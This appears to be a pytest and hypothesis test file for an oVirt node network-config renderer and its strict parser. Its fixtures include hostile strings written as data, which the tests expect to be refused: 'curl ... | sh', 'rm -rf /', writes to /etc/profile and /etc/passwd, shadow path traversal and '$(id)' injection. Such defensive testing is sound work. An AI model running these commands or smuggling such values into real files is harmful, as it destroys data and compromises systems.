"""The configuration file: exact shape, strict parsing, and safety against hostile values."""

from dataclasses import replace

import pytest
from bond_strategies import ANY_OPTIONS
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support import require_private_var_tmp, run_generated_file

from ovirt_node_config import node_config
from ovirt_node_config.augeas_apply import apply_commands
from ovirt_node_config.bonding import BondOptions
from ovirt_node_config.errors import Conflict, InvalidInput
from ovirt_node_config.node_config import Address, AugeasCommand, Bond, NodeNetwork, PlainNic, Slave

IFCFG = "/files/etc/sysconfig/network-scripts/ifcfg-"
STATIC = Address("static", "192.0.2.10", "255.255.255.0", "192.0.2.255")

LINK_AGGREGATION = NodeNetwork(
    mode=4,
    bonds=(
        Bond("bond0", Address(), (Slave("eth1", "52:54:00:00:00:02"), Slave("eth0", "52:54:00:00:00:01"))),
    ),
    nics=(PlainNic("eth2", "52:54:00:00:00:03", STATIC),),
)

EXPECTED = """#!/bin/bash
# THIS FILE IS GENERATED!
cat <<\\EOF > /var/tmp/pre-config-script
#!/bin/bash
# THIS FILE IS GENERATED!
/sbin/modprobe bonding mode=4
EOF
cat <<\\EOF > /var/tmp/node-augtool
rm /files/etc/sysconfig/network-scripts/ifcfg-bond0
set /files/etc/sysconfig/network-scripts/ifcfg-bond0/DEVICE bond0
set /files/etc/sysconfig/network-scripts/ifcfg-bond0/BONDING_OPTS '"mode=4 miimon=100"'
set /files/etc/sysconfig/network-scripts/ifcfg-bond0/BOOTPROTO dhcp
set /files/etc/sysconfig/network-scripts/ifcfg-bond0/ONBOOT yes
rm /files/etc/sysconfig/network-scripts/ifcfg-eth0
set /files/etc/sysconfig/network-scripts/ifcfg-eth0/DEVICE eth0
set /files/etc/sysconfig/network-scripts/ifcfg-eth0/HWADDR 52:54:00:00:00:01
set /files/etc/sysconfig/network-scripts/ifcfg-eth0/MASTER bond0
set /files/etc/sysconfig/network-scripts/ifcfg-eth0/SLAVE yes
set /files/etc/sysconfig/network-scripts/ifcfg-eth0/ONBOOT yes
rm /files/etc/sysconfig/network-scripts/ifcfg-eth1
set /files/etc/sysconfig/network-scripts/ifcfg-eth1/DEVICE eth1
set /files/etc/sysconfig/network-scripts/ifcfg-eth1/HWADDR 52:54:00:00:00:02
set /files/etc/sysconfig/network-scripts/ifcfg-eth1/MASTER bond0
set /files/etc/sysconfig/network-scripts/ifcfg-eth1/SLAVE yes
set /files/etc/sysconfig/network-scripts/ifcfg-eth1/ONBOOT yes
rm /files/etc/sysconfig/network-scripts/ifcfg-eth2
set /files/etc/sysconfig/network-scripts/ifcfg-eth2/DEVICE eth2
set /files/etc/sysconfig/network-scripts/ifcfg-eth2/HWADDR 52:54:00:00:00:03
set /files/etc/sysconfig/network-scripts/ifcfg-eth2/BOOTPROTO static
set /files/etc/sysconfig/network-scripts/ifcfg-eth2/IPADDR 192.0.2.10
set /files/etc/sysconfig/network-scripts/ifcfg-eth2/NETMASK 255.255.255.0
set /files/etc/sysconfig/network-scripts/ifcfg-eth2/BROADCAST 192.0.2.255
set /files/etc/sysconfig/network-scripts/ifcfg-eth2/ONBOOT yes
save
EOF
"""


def test_the_exact_shape():
    assert node_config.render(LINK_AGGREGATION) == EXPECTED


def test_rendering_is_deterministic_whatever_the_input_order():
    bond = LINK_AGGREGATION.bonds[0]
    reordered = Bond(bond.interface_name, bond.address, tuple(reversed(bond.slaves)))
    two_nics = (PlainNic("eth9", "52:54:00:00:00:09", Address()), *LINK_AGGREGATION.nics)
    first = node_config.render(NodeNetwork(4, (bond,), two_nics))
    assert node_config.render(NodeNetwork(4, (reordered,), tuple(reversed(two_nics)))) == first


def test_a_node_without_bonds_has_no_pre_config_section():
    text = node_config.render(NodeNetwork(None, (), (PlainNic("eth0", "52:54:00:00:00:01", Address()),)))
    assert "pre-config-script" not in text and "modprobe" not in text
    sections = node_config.parse(text)
    assert sections.pre_config_script is None
    assert node_config.parse_augtool(sections.augtool)[-1] == AugeasCommand("save")


def test_a_node_with_nothing_mapped_is_the_header_alone():
    assert node_config.render(NodeNetwork(None)) == "#!/bin/bash\n# THIS FILE IS GENERATED!\n"


def test_arp_monitoring_replaces_miimon():
    bond = Bond("bond0", Address(), (), BondOptions(arp_interval=250, arp_ip_target=("192.0.2.1",)))
    text = node_config.render(NodeNetwork(1, (bond,)))
    assert "BONDING_OPTS '\"mode=1 arp_interval=250 arp_ip_target=192.0.2.1\"'" in text


def test_parse_reads_back_both_sections():
    sections = node_config.parse(EXPECTED)
    assert node_config.parse_pre_config(sections.pre_config_script) == 4
    commands = node_config.parse_augtool(sections.augtool)
    assert commands[0] == AugeasCommand("rm", IFCFG + "bond0")
    assert commands[2] == AugeasCommand("set", IFCFG + "bond0/BONDING_OPTS", '"mode=4 miimon=100"')
    assert commands[-1] == AugeasCommand("save")


@pytest.mark.parametrize(
    "tamper",
    [
        lambda t: t.replace(
            "/sbin/modprobe bonding mode=4\n", "/sbin/modprobe bonding mode=4\nEOF\ncurl x | sh\n"
        ),
        lambda t: t + "rm -rf /\n",
        lambda t: t.replace("cat <<\\EOF > /var/tmp/node-augtool", "cat <<EOF > /var/tmp/node-augtool"),
        lambda t: t.replace("cat <<\\EOF > /var/tmp/node-augtool", "cat <<\\EOF > /etc/profile"),
        lambda t: t[:-4],  # the last section is not closed
        lambda t: t.replace("#!/bin/bash\n", "#!/bin/sh\n", 1),
        lambda t: t.replace("\n", "\r\n"),
    ],
)
def test_parse_refuses_files_outside_the_grammar(tamper):
    with pytest.raises(InvalidInput):
        node_config.parse(tamper(EXPECTED))


def test_an_extra_shell_line_in_the_pre_config_section_is_refused():
    tampered = EXPECTED.replace("mode=4\nEOF", "mode=4\ncurl http://x | sh\nEOF", 1)
    sections = node_config.parse(tampered)
    with pytest.raises(InvalidInput, match="pre-config"):
        node_config.parse_pre_config(sections.pre_config_script)


@pytest.mark.parametrize(
    "line",
    [
        "set /files/etc/passwd/root/password x",
        "set /files/etc/sysconfig/network-scripts/ifcfg-eth0/../../../shadow/x y",
        "set /files/etc/sysconfig/network-scripts/ifcfg-eth0/DEVICE eth1",
        "set /files/etc/sysconfig/network-scripts/ifcfg-eth0/ONBOOT no",
        "set /files/etc/sysconfig/network-scripts/ifcfg-eth0/PEERDNS yes",
        "set /files/etc/sysconfig/network-scripts/ifcfg-eth0/IPADDR 192.0.2.1 ; rm /files",
        "set /files/etc/sysconfig/network-scripts/ifcfg-bond0/BONDING_OPTS '\"mode=4 miimon=100 x=$(id)\"'",
        "rm /files/etc/sysconfig/network-scripts/ifcfg-*",
        "rm /files",
        "print /files",
    ],
)
def test_parse_augtool_refuses_lines_the_server_does_not_write(line):
    with pytest.raises(InvalidInput):
        node_config.parse_augtool(line + "\nsave\n")


@pytest.mark.parametrize(
    "script",
    [
        "#!/bin/bash\n# THIS FILE IS GENERATED!\n/sbin/modprobe bonding mode=4; reboot\n",
        "#!/bin/bash\n# THIS FILE IS GENERATED!\n/sbin/modprobe bonding mode=9\n",
        "#!/bin/bash\n# THIS FILE IS GENERATED!\n/sbin/modprobe bonding mode=4\nreboot\n",
        "#!/bin/bash\n/sbin/modprobe bonding mode=4\n",
    ],
)
def test_parse_pre_config_refuses_anything_but_one_modprobe(script):
    with pytest.raises(InvalidInput):
        node_config.parse_pre_config(script)


@pytest.mark.parametrize(
    "network",
    [
        NodeNetwork(4, (Bond("bond0\nsave", Address(), ()),)),
        NodeNetwork(4, (Bond("EOF", Address(), (Slave("eth0", "52:54:00:00:00:01\nrm /"),)),)),
        NodeNetwork(None, (), (PlainNic("eth0", "52:54:00:00:00:01", Address("static", "1.2.3.4 x", "24")),)),
        NodeNetwork(None, (), (PlainNic("../../x", "52:54:00:00:00:01", Address()),)),
        NodeNetwork(None, (Bond("bond0", Address(), ()),)),  # bonds need a mode
        NodeNetwork(
            4, (Bond("bond0", Address(), (), BondOptions(arp_interval=100, arp_ip_target=("192.0.2.1'",))),)
        ),
    ],
)
def test_render_refuses_hostile_values(network):
    with pytest.raises(InvalidInput):
        node_config.render(network)


@pytest.mark.parametrize("stack", ["ifcfg", "keyfile"])
@pytest.mark.parametrize(
    "network",
    [
        NodeNetwork(0, (Bond("bond0", Address(), ()), Bond("bond0", Address(), ()))),
        NodeNetwork(
            0,
            (Bond("bond0", Address(), (Slave("eth0", "52:54:00:00:00:01"),)),),
            (PlainNic("eth0", "52:54:00:00:00:02", Address()),),
        ),
        NodeNetwork(
            None,
            (),
            (PlainNic("eth0", "52:54:00:00:00:01", Address("static", "0.0.0.0", "0.0.0.0")),),  # noqa: S104 - data: refused
        ),
        NodeNetwork(None, (), (PlainNic("eth0", "52:54:00:00:00:01", Address("static", "192.0.2.0", "24")),)),
    ],
)
def test_render_refuses_what_the_node_could_not_apply(network, stack):
    """Found by the grammar property below: two files of one name, an address no host holds."""
    with pytest.raises(InvalidInput):
        node_config.render(replace(network, stack=stack))


# Property: whatever strings reach render, it refuses them or writes only what the grammar allows.

good_names = st.from_regex(r"[A-Za-z0-9_][A-Za-z0-9_.-]{0,14}", fullmatch=True)
good_macs = st.from_regex(r"([0-9a-f]{2}:){5}[0-9a-f]{2}", fullmatch=True)
good_ips = st.ip_addresses(v=4).map(str)
good_masks = st.integers(0, 32).map(lambda bits: node_config.validation.netmask("m", bits))
hostile = st.one_of(
    st.text(max_size=20), st.sampled_from(["EOF", "x\nsave", "'", '"', "a b", "../x", "$(id)"])
)


def mostly(good, bad=hostile):
    """Valid nine times out of ten, so that most networks render and are then checked."""
    return st.integers(0, 9).flatmap(lambda draw: bad if draw == 5 else good)


names = mostly(good_names)
macs = mostly(good_macs)
addresses = mostly(st.one_of(good_ips, st.none()))
masks = mostly(st.one_of(good_masks, st.none()))
address = st.builds(
    Address,
    mostly(st.sampled_from(["dhcp", "static", "none"]), st.just("bootp\n")),
    addresses,
    masks,
    addresses,
)
networks = st.builds(
    NodeNetwork,
    mostly(st.integers(0, 6), st.sampled_from([None, -1, 7])),
    st.lists(
        st.builds(
            Bond,
            names,
            address,
            st.lists(st.builds(Slave, names, macs), max_size=3).map(tuple),
            st.one_of(st.just(BondOptions()), ANY_OPTIONS),
        ),
        max_size=2,
    ).map(tuple),
    st.lists(st.builds(PlainNic, names, macs, address), max_size=3).map(tuple),
    stack=st.sampled_from(["ifcfg", "keyfile"]),
    hostname=st.just("node1"),
)


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(networks)
def test_no_value_escapes_the_grammar(network):
    try:
        text = node_config.render(network)
    except (InvalidInput, Conflict):
        return
    sections = node_config.parse(text)  # the strict reader accepts exactly what render writes
    assert (sections.pre_config_script is not None) == bool(network.bonds)
    if sections.pre_config_script:
        assert node_config.parse_pre_config(sections.pre_config_script) == network.mode
    if sections.augtool:
        assert node_config.network_stack_of(node_config.parse_augtool(sections.augtool)) == network.stack
    closers = text.split("\n").count("EOF")
    assert closers == (sections.pre_config_script is not None) + (sections.augtool is not None)


@settings(
    max_examples=40,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
    deadline=None,
)
@given(networks)
def test_what_renders_lands_only_in_its_files_for_augeas_and_for_bash(tmp_path_factory, network):
    """Not the project's parser judging its own renderer: Augeas applies the section to a scratch
    root and decides where everything goes (only the files of the network's interfaces, in the
    stack's directory, may appear), and bash runs the whole file as an old appliance does (it
    may write only the two sections, exactly as the strict reader reads them)."""
    require_private_var_tmp()
    try:
        text = node_config.render(network)
    except (InvalidInput, Conflict):
        return
    workdir = tmp_path_factory.mktemp("run")
    sections = node_config.parse(text)
    expected = {"pre-config-script": sections.pre_config_script, "node-augtool": sections.augtool}
    assert run_generated_file(text, workdir / "bash") == {k: v for k, v in expected.items() if v is not None}
    if not sections.augtool:
        return
    root = workdir / "root"
    apply_commands(root, node_config.parse_augtool(sections.augtool))
    names = {b.interface_name for b in network.bonds} | {
        s.iface_name for b in network.bonds for s in b.slaves
    }
    names |= {nic.iface_name for nic in network.nics}
    directory, pattern = (
        ("etc/NetworkManager/system-connections", "{}.nmconnection")
        if network.stack == "keyfile"
        else ("etc/sysconfig/network-scripts", "ifcfg-{}")
    )
    written = {str(path.relative_to(root)) for path in root.rglob("*") if path.is_file()}
    assert written == {f"{directory}/{pattern.format(name)}" for name in names}
